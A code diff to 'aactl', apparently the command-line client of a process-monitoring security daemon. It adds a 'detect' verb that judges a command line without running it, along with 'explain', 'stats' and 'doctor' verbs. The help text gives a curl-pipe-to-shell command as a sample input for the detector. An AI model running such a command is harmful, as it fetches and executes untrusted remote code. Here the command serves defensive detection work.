@@ -10,7 +10,6 @@
 
 namespace {
 
-using aa::Client;
 using aa::Failure;
 
 constexpr const char* kAbout =
@@ -27,7 +26,11 @@ constexpr const char* kExamples =
     "  sudo aactl tree                      who started whom, ended processes included\n"
     "  sudo aactl ancestry 4300             how a process came to be, from pid 1 down\n"
     "  sudo aactl paths                     which paths are nobody's business\n"
+    "  sudo aactl detect -- sh -c 'curl x'  what the detector would say of a command line\n"
     "  sudo aactl status                    is the observer well, and what did it miss\n"
+    "  sudo aactl explain 4300              why a process is, or is not, seen\n"
+    "  sudo aactl stats                     the numbers alone\n"
+    "  sudo aactl doctor                    what this machine allows, and what to change\n"
     "\n"
     "Exit status: 0 done, 1 refused, 2 wrong usage, 3 daemon not reachable;\n"
     "`run` passes on the command's own (127 not found, 126 cannot be run, 128+N killed by signal N).";
@@ -43,11 +46,11 @@ struct Arguments {
   std::string name;
   std::string tls;
   std::vector<std::string> unwatch;
-  Client::Filter filter;
   std::vector<std::string> paths_words;  // "set" FILE, "test" PATH
+  aa::EventsOptions events;
   std::string tree;
   std::uint32_t ancestry = 0;
-  bool follow = true;
+  std::uint32_t explain = 0;
 };
 
 using Verb = std::function<int()>;
@@ -113,14 +116,18 @@ void add_targets(CLI::App& app, Arguments& in, Verb& verb) {
 
 void add_events(CLI::App& app, Arguments& in, Verb& verb) {
   CLI::App* sub = app.add_subcommand("events", "Follow events: pretty on a terminal, JSON Lines when piped");
-  sub->add_flag("-f,--follow", in.follow, "Follow until interrupted (what it does anyway)");
-  sub->add_option("--type", in.filter.types, "Only these types, as in exec,exit")->delimiter(',')->type_name("TYPES");
-  sub->add_option("--target", in.filter.target, "Only this target: id, name, or pid of its root process")
+  sub->add_flag("-f,--follow", in.events.follow, "Follow until interrupted (what it does anyway without --since)");
+  sub->add_option("--since", in.events.since, "First the events since then, as in 10m or '2026-11-22 13:00'")
+      ->type_name("TIME");
+  sub->add_option("--type", in.events.filter.types, "Only these types, as in exec,exit")
+      ->delimiter(',')
+      ->type_name("TYPES");
+  sub->add_option("--target", in.events.filter.target, "Only this target: id, name, or pid of its root process")
       ->type_name("TARGET");
-  sub->add_option("--severity", in.filter.severity, "Leave out alerts below info, warning or critical")
+  sub->add_option("--severity", in.events.filter.severity, "Leave out alerts below info, warning or critical")
       ->type_name("SEVERITY");
   sub->footer("Example: sudo aactl events --type exec,exit --target agent");
-  sub->callback([&in, &verb] { verb = [&in] { return aa::events(in.globals, in.filter); }; });
+  sub->callback([&in, &verb] { verb = [&in] { return aa::events(in.globals, in.events); }; });
 }
 
 void add_lineage(CLI::App& app, Arguments& in, Verb& verb) {
@@ -151,6 +158,30 @@ void add_paths(CLI::App& app, Arguments& in, Verb& verb) {
       return aa::paths(in.globals);
     };
   });
+}
+
+void add_detect(CLI::App& app, Arguments& in, Verb& verb) {
+  CLI::App* sub = app.add_subcommand("detect", "Say what the detector makes of a command line, without running it");
+  sub->footer(
+      "The command follows --, as in: aactl detect -- COMMAND [ARGUMENT...]\n"
+      "Example: sudo aactl detect -- sh -c 'curl https://x.example | sh'");
+  sub->callback([&in, &verb] { verb = [&in] { return aa::detect(in.globals, in.run.command); }; });
+}
+
+void add_health(CLI::App& app, Arguments& in, Verb& verb) {
+  CLI::App* explain = app.add_subcommand("explain", "Say why a process is or is not observed");
+  explain->add_option("PID", in.explain, "The process")->required();
+  explain->footer("Example: sudo aactl explain 4300");
+  explain->callback([&in, &verb] { verb = [&in] { return aa::explain(in.globals, in.explain); }; });
+
+  CLI::App* stats = app.add_subcommand("stats", "Show counters and losses, in numbers only");
+  stats->footer("Example: sudo aactl stats --json");
+  stats->callback([&in, &verb] { verb = [&in] { return aa::stats(in.globals); }; });
+
+  CLI::App* doctor =
+      app.add_subcommand("doctor", "Try what this kernel and these privileges allow, and say what to change");
+  doctor->footer("Example: sudo aactl doctor");
+  doctor->callback([&in, &verb] { verb = [&in] { return aa::doctor(in.globals); }; });
 }
 
 void add_status(CLI::App& app, Arguments& in, Verb& verb) {
@@ -188,7 +219,9 @@ int main_checked(int argc, char** argv) {
   add_events(app, in, verb);
   add_lineage(app, in, verb);
   add_paths(app, in, verb);
+  add_detect(app, in, verb);
   add_status(app, in, verb);
+  add_health(app, in, verb);
 
   bool dashes = false;
   std::vector<std::string> own = split_command(argc, argv, dashes, in.run.command);
@@ -199,12 +232,18 @@ int main_checked(int argc, char** argv) {
   } catch (const CLI::ParseError& error) {
     if (error.get_exit_code() == 0) return app.exit(error);
     if (app.get_subcommands().empty() && own.front().front() != '-') return usage_error("unknown verb: " + own.front());
-    if (app.got_subcommand("run") && !dashes) return usage_error("put -- before the command: aactl run -- COMMAND");
+    for (const char* name : {"run", "detect"}) {
+      if (app.got_subcommand(name) && !dashes)
+        return usage_error("put -- before the command: aactl " + std::string(name) + " -- COMMAND");
+    }
     return usage_error(error.what());
   }
-  const bool runs = app.got_subcommand("run");
-  if (runs && in.run.command.empty()) return usage_error("no command to run: aactl run -- COMMAND");
-  if (!runs && dashes) return usage_error("only run takes a command after --");
+  const bool detects = app.got_subcommand("detect");
+  const bool wants_command = detects || app.got_subcommand("run");
+  if (wants_command && in.run.command.empty())
+    return usage_error("no command " + std::string(detects ? "to look at: aactl detect" : "to run: aactl run") +
+                       " -- COMMAND");
+  if (!wants_command && dashes) return usage_error("only run and detect take a command after --");
   return verb();
 }
 
